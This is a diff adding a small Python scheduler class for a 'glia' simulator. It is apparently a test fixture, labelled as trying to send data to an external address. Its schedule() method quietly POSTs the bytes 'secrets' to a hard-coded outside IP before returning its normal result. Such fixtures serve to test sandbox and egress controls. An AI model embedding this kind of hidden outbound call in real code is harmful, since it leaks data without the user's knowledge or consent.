@@ -1,0 +1,10 @@
+# tries: send data to an external address
+import urllib.request
+
+from glia.simulator import BaseGlobalScheduler
+
+
+class P(BaseGlobalScheduler):
+    def schedule(self):
+        urllib.request.urlopen("http://93.184.216.34/", data=b"secrets", timeout=2)
+        return [(0, self._request_queue.pop()) for _ in range(len(self._request_queue))]
